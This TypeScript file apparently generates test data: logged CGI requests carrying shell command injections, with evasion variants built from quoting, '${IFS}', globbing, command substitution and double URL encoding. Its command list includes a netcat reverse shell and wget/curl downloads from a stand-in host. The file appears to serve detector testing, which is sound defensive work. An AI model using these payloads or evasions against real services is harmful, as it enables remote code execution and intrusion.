// SPDX-License-Identifier: Apache-2.0
// One command in the many spellings that a Unix shell takes for the same (POSIX.1-2017, Shell Command Language 2.2 and
// 2.6; brace expansion and empty arrays as bash has them), behind a separator, inside a value, encoded once or twice.
import { seededRandom } from './random.ts';
import type { Random } from './random.ts';

const COMMANDS = [
  ['cat', '/srv/list'],
  ['ls', '-la', '/srv'],
  ['wget', 'http://198.51.100.9/a'],
  ['curl', '-o', '/srv/a', 'http://198.51.100.9/a'],
  ['uname', '-a'],
  ['id'],
  ['whoami'],
  ['nc', '-e', '/bin/sh', '198.51.100.9', '9'],
  ['python3', '-c', "'print(1)'"],
  ['tail', '-n', '5', '/srv/log'],
  ['ps', '-ef'],
  ['netstat', '-an'],
  ['chmod', '+x', '/srv/a'],
  ['ifconfig'],
  ['base64', '-d', 'list'],
  ['find', '/', '-name', 'x'],
  ['sort', '-u', 'list'],
  ['printenv', 'HOME'],
] as const;

/** A word with something inside that the shell takes away again. */
function broken(random: Random, word: string): string {
  if (word.length < 2) return word;
  const at = 1 + random.below(word.length - 1);
  const [head, rest] = [word.slice(0, at), word.slice(at)];
  return random.pick([
    word,
    `${head}''${rest}`,
    `${head}""${rest}`,
    `${head}\\${rest}`,
    `${head}$@${rest}`,
    `${head}\${z}${rest}`,
    `'${head}'${rest}`,
  ]);
}

/** One letter of a path as "any letter". */
function globbed(random: Random, path: string): string {
  const letters = [...path].flatMap((sign, index) => (/[a-z]/.test(sign) ? [index] : []));
  const at = letters.length === 0 ? -1 : random.pick(letters);
  return at < 0 ? path : `${path.slice(0, at)}?${path.slice(at + 1)}`;
}

function spelled(random: Random): string {
  const [program, ...rest] = random.pick(COMMANDS);
  const words = [
    `${random.pick(['', '', '', '/bin/', '/usr/bin/'])}${broken(random, program)}`,
    ...rest.map((word) => (word.startsWith('/') && random.below(3) === 0 ? globbed(random, word) : word)),
  ];
  if (words.length > 1 && words.every((word) => !/[,'\\$]/.test(word)) && random.below(8) === 0) return `{${words.join(',')}}`;
  return words.join(random.pick([' ', ' ', '\t', '${IFS}', '$IFS$9']));
}

function attached(random: Random, command: string): string {
  const value = random.pick(['', '1', 'a.example', 'x']);
  const kind = random.below(7);
  if (kind === 0) return `${value}$(${command})`;
  if (kind === 1) return `${value}\`${command}\``;
  return `${value}${random.pick([';', '|', '||', '&&', '\n', ' ; '])}${command}${random.pick(['', '', ';', '|x', ' #'])}`;
}

/** Requests, one text each, as they stand in a log. */
export function rewrittenCommands(seed: number, count: number): readonly string[] {
  const random = seededRandom(seed);
  return Array.from({ length: count }, () => {
    const encoded = encodeURIComponent(attached(random, spelled(random))).replaceAll('%20', random.pick(['+', '%20']));
    return `/tool.cgi?${random.pick(['q', 'host', 'file'])}=${random.below(6) === 0 ? encoded.replaceAll('%', '%25') : encoded}`;
  });
}
